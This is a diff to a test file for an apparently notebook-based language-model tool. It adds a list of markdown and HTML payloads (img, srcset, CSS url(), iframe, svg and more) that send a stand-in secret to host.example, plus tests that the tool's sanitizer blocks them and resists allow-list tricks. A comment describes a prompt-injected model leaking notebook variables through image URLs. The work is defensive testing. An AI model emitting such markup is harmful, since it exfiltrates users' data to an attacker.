@@ -125,6 +125,85 @@ def test_formats(ip: Any) -> None:
     assert "onerror" not in html and "javascript" not in html and "<b>ok</b>" in html
 
 
+# Model output must not make the browser fetch anything: a prompt-injected model leaks the
+# notebook variables filled into its prompt through an image URL.
+LEAKS = [
+    "![x](https://host.example/?d=SECRET)",
+    '![x](http://host.example/a.png "title")',
+    '<img src="http://host.example/?d=SECRET">',
+    '<img src="//host.example/?d=SECRET" alt="p">',
+    '<img src="https://host.example\\@good.example/?d=SECRET">',
+    '<img srcset="https://host.example/?d=SECRET 1x, https://host.example/2 2x">',
+    '<picture><source srcset="https://host.example/?d=SECRET"><img src="https://host.example/b"></picture>',
+    '<video poster="https://host.example/?d=SECRET" src="https://host.example/v.mp4"></video>',
+    '<audio src="https://host.example/?d=SECRET"></audio>',
+    '<p style="background: url(https://host.example/?d=SECRET)">s</p>',
+    "<div style=\"background-image: url('https://host.example/?d=SECRET')\">s</div>",
+    '<table background="https://host.example/?d=SECRET"><tr><td>t</td></tr></table>',
+    '<svg><image href="https://host.example/?d=SECRET"/></svg>',
+    '<input type="image" src="https://host.example/?d=SECRET">',
+    '<link rel="stylesheet" href="https://host.example/?d=SECRET">',
+    '<object data="https://host.example/?d=SECRET"></object><embed src="https://host.example/?d=SECRET">',
+    '<iframe src="https://host.example/?d=SECRET"></iframe>',
+    '<style>body { background: url(https://host.example/?d=SECRET) }</style>',
+]
+
+
+def fetched_urls(markup: str) -> list[str]:
+    """Every URL in ``markup`` a browser would load without a click."""
+    from html.parser import HTMLParser
+
+    urls: list[str] = []
+
+    class Finder(HTMLParser):
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            for name, value in attrs:
+                value = value or ""
+                if name in ("src", "poster", "background", "data") or (name == "href" and tag not in ("a", "area")):
+                    urls.append(value)
+                elif name in ("srcset", "imagesrcset"):
+                    urls.extend(c.split()[0] for c in value.split(",") if c.strip())
+                elif name == "style" and "url(" in value:
+                    urls.append(value)
+
+        def handle_data(self, data: str) -> None:
+            if "url(" in data and self.lasttag == "style":
+                urls.append(data)
+
+    Finder().feed(markup)
+    return urls
+
+
+@pytest.mark.parametrize("fmt", ["markdown", "html"])
+@pytest.mark.parametrize("payload", LEAKS)
+def test_model_output_fetches_nothing_remote(ip: Any, fmt: str, payload: str) -> None:
+    html = run(ip, f"%%generate -m echo: -f {fmt}\n{payload}")._repr_mimebundle_()["text/html"]
+    assert fetched_urls(html) == []
+
+
+def test_remote_images_are_links_and_data_images_show(ip: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    png = "data:image/png;base64,iVBORw0KGgo="
+    md = run(ip, f"%%generate -m echo:\n![leak](https://host.example/?d=SECRET) ![dot]({png})")
+    html = md._repr_mimebundle_()["text/html"]
+    assert '<a href="https://host.example/?d=SECRET" title="remote image, not loaded"' in html
+    assert ">[image: leak]</a>" in html and f'<img src="{png}" alt="dot">' in html
+    page = '<img src="https://good.example/cat.png" alt="cat"><img src="https://host.example/x">'
+    ip.run_line_magic("config", 'GenMagics.allowed_image_hosts = ["good.example"]')
+    try:
+        shown = run(ip, f"%%generate -m echo: -f html\n{page}")._repr_mimebundle_()["text/html"]
+    finally:
+        ip.run_line_magic("config", "GenMagics.allowed_image_hosts = []")
+    assert fetched_urls(shown) == ["https://good.example/cat.png"]
+    from genmagic.display import sanitize_html
+
+    for trick in ("https://host.example\\@good.example/x", "https://good.example@host.example/x", "https://good.example.host.example/"):
+        assert fetched_urls(sanitize_html(f'<img src="{trick}">', ["good.example"])) == [], trick
+    monkeypatch.setenv("GENMAGIC_IMAGE_HOSTS", "*.example")
+    assert len(fetched_urls(run(ip, f"%%generate -m echo: -f html\n{page}")._repr_mimebundle_()["text/html"])) == 2
+    monkeypatch.delenv("GENMAGIC_IMAGE_HOSTS")
+    assert fetched_urls(run(ip, f"%%generate -m echo: -f html\n{page}")._repr_mimebundle_()["text/html"]) == []
+
+
 def test_code_goes_to_next_cell(ip: Any, monkeypatch: pytest.MonkeyPatch) -> None:
     calls = []
     monkeypatch.setattr(ip, "set_next_input", lambda text, replace=False: calls.append((text, replace)))
@@ -157,20 +236,20 @@ def test_chat_with_real_template_and_system(ip: Any) -> None:
 
 
 def test_interrupt_keeps_partial_text_history_and_model(ip: Any, monkeypatch: pytest.MonkeyPatch) -> None:
-    from genmagic import display
+    from genmagic import sinks
 
-    class InterruptingSink(display.StreamSink):
+    class InterruptingSink(sinks.StreamSink):
         def __init__(self, num: int = 1) -> None:
             super().__init__(num=num)
             self.count = 0
 
         def emit(self, event: Any) -> None:
             super().emit(event)
-            self.count += 1
+            self.count += event.type == "token"
             if self.count == 3:
                 _thread.interrupt_main()
 
-    monkeypatch.setattr(display, "live_text_sink", lambda num, stream: InterruptingSink(num))
+    monkeypatch.setattr(sinks, "live_text_sink", lambda num, stream, fmt: InterruptingSink(num))
     engine = genmagic._magics.engine
     run(ip, "%%generate -m tiny --seed 1 --max-new-tokens 2\nwarm up")
     loaded_before = engine.models.loaded()[-1].model
